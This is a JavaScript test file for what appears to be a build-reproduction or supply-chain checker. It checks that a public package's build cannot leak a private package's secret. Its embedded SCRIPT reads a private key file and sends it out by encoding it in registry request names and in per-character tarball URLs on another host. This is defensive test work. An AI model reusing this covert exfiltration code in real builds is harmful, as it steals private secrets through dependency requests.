// A stranger's public package names the user's private package, and its build is served it, as
// intended and with a warning. What is in that must not get out to somebody else's host: what a
// build asks the public registry for is a way out that nobody reads.

import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before } from 'node:test';
import { startRegistry } from '../../__test__/kit/registry.mjs';
import { startPages } from '../../__test__/kit/server.mjs';
import { attack, findingOf, manifest, setUp } from './kit.mjs';

const TOKEN = 'npm_kitSecretTokenThatMustNotLeave';
const SECRET = 'topsecret';
setUp();

let corp, elsewhere;
before(async () => {
  corp = await startRegistry({ auth: { tokens: [TOKEN] } });
  await corp.publish({ files: { 'package.json': manifest('@corp/secret'), 'key.txt': SECRET } });
  elsewhere = await startPages({});
});
after(async () => {
  await corp?.close();
  await elsewhere?.close();
});

/**
 * Asks for a name made of the secret, and for a tarball on another host for each of its letters.
 */
const SCRIPT = `
const http=require('http'),f=require('fs'),[id]=process.argv.slice(2);
let key='${SECRET}';
try{key=f.readFileSync(require.resolve('@corp/secret/key.txt'),'utf8').trim()}catch{}
const u=new URL(process.env.npm_config_registry);
const ask=(path)=>new Promise(done=>http.get({host:u.hostname,port:u.port,path},got=>{got.resume();got.on('end',()=>done(got.statusCode))}).on('error',done));
(async()=>{await ask('/'+id+'-leak-'+Buffer.from(key).toString('hex'));
for(const c of key)await ask('/'+id+'-out/-/'+id+'-out-1.0.'+c.charCodeAt(0)+'.tgz');
f.mkdirSync('dist',{recursive:true});f.writeFileSync('dist/a.js','x');})();`;

/**
 * What the public registry was asked for and the other host was told, where the build has
 * `devDependencies`.
 */
async function out({ world, id, home, judge }, devDependencies) {
  const dist = (letter) => ({ tarball: `${elsewhere.url}${id}-out-${String.fromCharCode(letter)}.tgz` });
  await world.registry.publish({ files: { 'package.json': manifest(`${id}-out`, '1.0.0'), 'i.js': '' } });
  for (let letter = 97; letter <= 122; letter += 1) {
    await world.registry.publish({ files: { 'package.json': manifest(`${id}-out`, `1.0.${letter}`), 'i.js': '' }, dist: dist(letter) });
  }
  // What is published now is of the release's past.
  await new Promise((done) => setTimeout(done, 30));
  const json = { scripts: { build: `node b.js ${id}` }, files: ['dist', 'index.js'], devDependencies: { [`${id}-out`]: '1.0.0', ...devDependencies } };
  const { spec } = await world.release(id, { json, files: { 'b.js': SCRIPT }, published: { 'dist/a.js': 'x', 'b.js': null } });
  const clean = await home();
  await writeFile(join(clean.home, '.npmrc'), `@corp:registry=${corp.url}\n//127.0.0.1:${corp.port}/:_authToken=${TOKEN}\n`);
  // Loopback stands for a public host here.
  clean.env.REPRODUCE_ALLOW_HOSTS = `127.0.0.1:${elsewhere.port}`;
  const from = world.registry.requests.length;
  const answer = await judge(spec, { clean });
  assert.equal(answer.verdict, 'identical', `the build ran to its end: ${JSON.stringify(answer.attempts)}`);
  const paths = world.registry.requests.slice(from).map(({ path }) => path);
  const letters = elsewhere.requests.map(({ path }) => new RegExp(`^/${id}-out-(.)`).exec(path)?.[1]).filter(Boolean);
  return { answer, names: paths.filter((path) => path.includes('leak-')), letters };
}

attack('what a build asks for tells nobody of the private packages that it has', async (at) => {
  const { answer, names, letters } = await out(at, { '@corp/secret': '1.0.0' });
  assert.deepEqual([names, letters], [[], []]);
  const finding = findingOf(answer, 'private-kept-in');
  assert.equal(finding.severity, 'warning');
  assert.match(finding.message, new RegExp(`${at.id}-leak-[0-9a-f]+`));
  assert.match(finding.message, new RegExp(`${at.id}-out@1\\.0\\.\\d+ of 127\\.0\\.0\\.1`));
  assert.ok(answer.attempts.at(-1).resolved.some((line) => line.startsWith(`${at.id}-out@1.0.0 `)), 'what the project names is served');
});

attack('a build without private packages asks for what it likes', async (at) => {
  const { answer, names, letters } = await out(at, {});
  assert.equal(names.length, 1, 'control: the name is asked for');
  assert.deepEqual([...new Set(letters)].sort(), [...new Set(SECRET)].sort(), 'control: the other host is asked');
  assert.ok(!answer.findings.some(({ code }) => code === 'private-kept-in'));
});
